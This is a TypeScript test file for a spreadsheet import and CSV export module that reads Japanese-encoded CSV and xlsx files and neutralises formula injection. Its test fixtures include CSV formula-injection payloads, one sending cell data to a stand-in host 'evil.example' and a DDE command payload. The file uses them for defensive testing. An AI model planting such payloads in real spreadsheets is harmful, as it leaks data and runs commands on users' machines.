import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { isAppError } from "./errors";
import { neutralizeFormula, readTabular, restoreNeutralized, writeCsv } from "./tabular.server";

const csv = '協定名,締結先,締結日\r\n㈱髙橋①商事との協定,"髙橋①商事、金沢大学",令和5年4月1日\r\n,,\r\n"二行の\n名称",相手,2023/4/1\r\n';

async function fieldErrorOf(p: Promise<unknown>): Promise<string> {
  try {
    await p;
  } catch (error) {
    if (isAppError(error)) return error.fieldErrors.map((e) => `${e.path}:${e.message}`).join();
    throw error;
  }
  throw new Error("expected a validation error");
}

describe("readTabular", () => {
  it("reads Shift_JIS CSV (cp932: ①, 髙, ㈱) and keeps sheet row numbers past blank rows", async () => {
    const table = await readTabular(iconv.encode(csv, "cp932"), "台帳.csv");
    expect(table).toMatchObject({ format: "csv", encoding: "shift_jis", headers: ["協定名", "締結先", "締結日"] });
    expect(table.rows).toEqual([
      ["㈱髙橋①商事との協定", "髙橋①商事、金沢大学", "令和5年4月1日"],
      ["二行の\n名称", "相手", "2023/4/1"],
    ]);
    expect(table.rowNumbers).toEqual([2, 4]);
  });

  it("reads UTF-8 with and without a BOM the same way", async () => {
    const plain = await readTabular(Buffer.from(csv, "utf8"), "a.csv");
    const bom = await readTabular(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv, "utf8")]), "a.csv");
    expect(plain.encoding).toBe("utf-8");
    expect(bom.headers).toEqual(plain.headers);
    expect(bom.rows).toEqual(plain.rows);
  });

  it("reads the first sheet of an xlsx, dates as ISO and codes as text", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("台帳");
    sheet.addRow(["協定名", "締結日", "法人番号", "相手"]);
    sheet.addRow(["防災協定", new Date(Date.UTC(2023, 3, 1)), "0123456789012", { richText: [{ text: "北陸" }, { text: "テスト" }] }]);
    sheet.addRow([]);
    sheet.addRow(["子育て協定", "令和6年1月5日", 7000012050002, "相手"]);
    const table = await readTabular(new Uint8Array(await workbook.xlsx.writeBuffer()), "台帳.xlsx");
    expect(table).toMatchObject({ format: "xlsx", encoding: null, headers: ["協定名", "締結日", "法人番号", "相手"], rowNumbers: [2, 4] });
    expect(table.rows).toEqual([
      ["防災協定", "2023-04-01", "0123456789012", "北陸テスト"],
      ["子育て協定", "令和6年1月5日", "7000012050002", "相手"],
    ]);
  });

  it("refuses what it cannot read with a field error on the file", async () => {
    expect(await fieldErrorOf(readTabular(new Uint8Array(), "a.csv"))).toBe("file:validation.tabular.empty");
    expect(await fieldErrorOf(readTabular(Buffer.from("協定名\r\n"), "a.csv"))).toBe("file:validation.tabular.empty");
    expect(await fieldErrorOf(readTabular(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0, 0]), "old.xls"))).toBe("file:validation.tabular.type");
    expect(await fieldErrorOf(readTabular(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0]), "x.png"))).toBe("file:validation.tabular.type");
    expect(await fieldErrorOf(readTabular(Buffer.from([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]), "broken.xlsx"))).toBe(
      "file:validation.tabular.unreadable",
    );
    expect(await fieldErrorOf(readTabular(Buffer.from('a,b\r\n"unclosed,1\r\n'), "a.csv"))).toBe("file:validation.tabular.unreadable");
    const many = `見出し\r\n${"行\r\n".repeat(10_001)}`;
    expect(await fieldErrorOf(readTabular(Buffer.from(many), "a.csv"))).toBe("file:validation.tabular.tooManyRows");
  });
});

describe("writeCsv (CSV formula injection)", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+81-3-1234",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindent",
    "\rreturn",
    "=cmd|' /C calc'!A0",
  ];

  it("prefixes every cell that starts with = + - @ TAB or CR with a single quote, and nothing else", () => {
    for (const cell of hostile) expect(neutralizeFormula(cell)).toBe(`'${cell}`);
    for (const cell of ["協定", "", "a=b", "'quoted", "010006", "2026-04-01", "＝全角"]) expect(neutralizeFormula(cell)).toBe(cell);
    const text = writeCsv([["名称"], ...hostile.map((c) => [c])], "utf-8").toString("utf8");
    for (const line of text
      .replace(/^\uFEFF/, "")
      .split("\r\n")
      .slice(1, -1))
      expect(line).toMatch(/^"?'/);
  });

  it("reads its own CSV back unchanged, in UTF-8 and Shift_JIS", async () => {
    const rows = [["名称", "相手方"], ...hostile.map((c, i) => [`協定${i}`, c]), ["'=引用符つき", "'平文"]];
    for (const encoding of ["utf-8", "shift_jis"] as const) {
      const read = await readTabular(writeCsv(rows, encoding), "export.csv");
      // Cells are trimmed on reading (tab and CR at the start included), as before.
      expect(read.rows.map((r) => r[1])).toEqual([...hostile.map((c) => c.trim()), "'平文"]);
      expect(read.rows.at(-1)![0]).toBe("'=引用符つき");
    }
  });

  it("restores only a quote the writer added", () => {
    expect(restoreNeutralized("'=1+1")).toBe("=1+1");
    expect(restoreNeutralized("''=1+1")).toBe("'=1+1");
    expect(restoreNeutralized("'abc")).toBe("'abc");
    expect(restoreNeutralized("=1+1")).toBe("=1+1");
    for (const cell of ["'=x", "''-1", "'a", "x", "=y"]) expect(restoreNeutralized(neutralizeFormula(cell))).toBe(cell);
  });
});
